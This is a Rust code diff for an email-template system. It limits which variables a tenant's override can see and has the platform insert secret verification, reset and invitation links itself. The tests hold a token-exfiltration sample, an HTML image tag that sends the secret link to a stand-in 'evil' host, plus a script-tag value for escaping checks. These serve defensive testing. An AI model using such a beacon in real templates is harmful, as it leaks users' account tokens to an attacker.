@@ -192,14 +192,49 @@ fn render_part(
     })
 }
 
-/// Renders `custom` with `vars` (the message's values).
-pub fn render(custom: &TemplateOverride, vars: &Value) -> Result<Rendered, TemplateProblem> {
+/// Adds the platform's HTML `block` to a tenant's HTML part: before its last `</body>`,
+/// or at its end.
+fn insert_html(html: &str, block: &str) -> String {
+    match html.to_ascii_lowercase().rfind("</body") {
+        Some(at) => format!("{}{block}{}", &html[..at], &html[at..]),
+        None => format!("{html}\n{block}"),
+    }
+}
+
+/// Renders `custom` (the tenant's override of `template`) with `vars` (the message's
+/// values). The override sees only [`Template::override_variables`]; for a template with a
+/// platform block ([`Template::has_platform_block`]), the platform's block, rendered with
+/// the real values, follows the tenant's text and HTML, so the link (or the event) is in
+/// the message exactly where and how the platform puts it.
+pub fn render(
+    template: Template,
+    custom: &TemplateOverride,
+    vars: &Value,
+) -> Result<Rendered, TemplateProblem> {
+    let allowed: Vec<&str> = template
+        .override_variables()
+        .iter()
+        .map(|(name, _)| *name)
+        .collect();
+    let visible: serde_json::Map<String, Value> = vars
+        .as_object()
+        .into_iter()
+        .flatten()
+        .filter(|(name, _)| allowed.contains(&name.as_str()))
+        .map(|(name, value)| (name.clone(), value.clone()))
+        .collect();
     let mut env = environment();
-    let vars = Jinja::from_serialize(vars);
-    let subject = render_part(&mut env, "subject", "subject.txt", &custom.subject, &vars)?;
-    let text = render_part(&mut env, "text", "body.txt", &custom.text, &vars)?;
-    let html = match &custom.html {
-        Some(html) => render_part(&mut env, "html", "body.html", html, &vars)?,
+    let visible = Jinja::from_serialize(Value::Object(visible));
+    let subject = render_part(
+        &mut env,
+        "subject",
+        "subject.txt",
+        &custom.subject,
+        &visible,
+    )?;
+    let mut text = render_part(&mut env, "text", "body.txt", &custom.text, &visible)?;
+    let mut html = match &custom.html {
+        Some(html) => render_part(&mut env, "html", "body.html", html, &visible)?,
         None => {
             let escaped = render_part(
                 &mut env,
@@ -213,6 +248,14 @@ pub fn render(custom: &TemplateOverride, vars: &Value) -> Result<Rendered, Templ
             )
         }
     };
+    let block = crate::render_block(template, vars).map_err(|error| TemplateProblem {
+        part: "text",
+        message: format!("{error}"),
+    })?;
+    if let Some((block_text, block_html)) = block {
+        text = format!("{}\n\n{block_text}", text.trim_end());
+        html = insert_html(&html, &block_html);
+    }
     Ok(Rendered {
         subject: subject.trim().to_owned(),
         text,
@@ -220,7 +263,8 @@ pub fn render(custom: &TemplateOverride, vars: &Value) -> Result<Rendered, Templ
     })
 }
 
-/// The sample values of `template` (see [`Template::variables`]).
+/// The sample values of `template` (see [`Template::variables`]; an override sees only
+/// [`Template::override_variables`] of them).
 pub fn sample(template: Template) -> Value {
     Value::Object(
         template
@@ -232,10 +276,33 @@ pub fn sample(template: Template) -> Value {
 }
 
 /// Whether `custom` can stand in for `template`: every part compiles and renders with the
-/// message's sample values, using no other variable, within the bounds. Returns the
-/// sample rendering.
+/// message's sample values, using no other variable, within the bounds. A template whose
+/// link the platform adds refuses an override that names `link`. Returns the sample
+/// rendering.
 pub fn check(template: Template, custom: &TemplateOverride) -> Result<Rendered, TemplateProblem> {
-    render(custom, &sample(template))
+    if template.has_platform_block() {
+        let parts = [
+            ("subject", Some(custom.subject.as_str())),
+            ("text", Some(custom.text.as_str())),
+            ("html", custom.html.as_deref()),
+        ];
+        for (part, source) in parts {
+            let Some(source) = source else { continue };
+            let tokens = machinery::tokenize(source, false, Default::default(), Default::default());
+            for (token, span) in tokens.flatten() {
+                if matches!(token, Token::Ident("link")) {
+                    return Err(TemplateProblem {
+                        part,
+                        message: format!(
+                            "`link` is not available in this template (line {}): the platform adds the link after your text",
+                            span.start_line
+                        ),
+                    });
+                }
+            }
+        }
+    }
+    render(template, custom, &sample(template))
 }
 
 /// The tenant's override of `template`, if any.
@@ -304,6 +371,7 @@ mod tests {
     fn an_override_renders_its_variables_and_escapes_only_html() {
         let vars = serde_json::json!({"tenant_name": "Acme", "user_name": "<script>x</script>"});
         let rendered = render(
+            Template::Welcome,
             &custom(
                 "Hi {{ user_name }}",
                 "Hello {{ user_name }} of {{ tenant_name }}",
@@ -314,7 +382,12 @@ mod tests {
         .expect("renders");
         assert_eq!(rendered.text, "Hello <script>x</script> of Acme");
         assert_eq!(rendered.html, "<p>&lt;script&gt;x&lt;&#x2f;script&gt;</p>");
-        let text_only = render(&custom("s", "{{ user_name }}", None), &vars).expect("renders");
+        let text_only = render(
+            Template::Welcome,
+            &custom("s", "{{ user_name }}", None),
+            &vars,
+        )
+        .expect("renders");
         assert!(text_only.html.contains("&lt;script&gt;"), "{text_only:?}");
         assert!(!text_only.html.contains("<script>"));
     }
@@ -342,7 +415,7 @@ mod tests {
         assert_eq!(no_include.part, "subject");
         for template in Template::ALL {
             let vars: String = template
-                .variables()
+                .override_variables()
                 .iter()
                 .map(|(name, _)| format!("{{{{ {name} }}}} "))
                 .collect();
@@ -351,10 +424,50 @@ mod tests {
     }
 
     #[test]
+    fn a_secret_link_is_the_platforms_and_comes_once() {
+        for template in [
+            Template::Verification,
+            Template::PasswordReset,
+            Template::Invitation,
+        ] {
+            let steal = custom("s", "x", Some("<img src=\"https://evil/?t={{ link }}\">"));
+            let refused = check(template, &steal).expect_err("no link");
+            assert_eq!(refused.part, "html");
+            assert!(
+                refused.message.contains("platform adds the link"),
+                "{refused:?}"
+            );
+            let sample = sample(template);
+            let link = sample["link"].as_str().expect("link");
+            let html = "<html><body><p>Ours, {{ tenant_name }}</p></body></html>";
+            let rendered = check(template, &custom("s", "Ours", Some(html))).expect("renders");
+            assert_eq!(rendered.text.matches(link).count(), 1, "{rendered:?}");
+            assert!(rendered.text.starts_with("Ours\n\n"), "{rendered:?}");
+            // Escaped in HTML (`/` as `&#x2f;`), as in the built-in template.
+            let token = "token=sample";
+            assert_eq!(rendered.html.matches(token).count(), 1, "{rendered:?}");
+            assert!(
+                rendered.html.ends_with("</p></body></html>"),
+                "{rendered:?}"
+            );
+            let text_only = check(template, &custom("s", "Ours", None)).expect("renders");
+            assert_eq!(text_only.html.matches(token).count(), 1, "{text_only:?}");
+        }
+        let event = "Your password was changed.";
+        let notice =
+            check(Template::SecurityNotice, &custom("s", "Nothing here", None)).expect("renders");
+        assert!(notice.text.contains(event), "{notice:?}");
+        assert!(notice.html.contains(event), "{notice:?}");
+        let welcome = check(Template::Welcome, &custom("s", "Only ours", None)).expect("renders");
+        assert_eq!(welcome.text, "Only ours");
+    }
+
+    #[test]
     fn an_override_cannot_build_a_huge_value() {
         let big = "x".repeat(OUTPUT_MAX / 2);
         let vars = serde_json::json!({ "tenant_name": big });
         let loud = render(
+            Template::Welcome,
             &custom(
                 "s",
                 "{% for i in range(10) %}{{ tenant_name }}{% endfor %}",
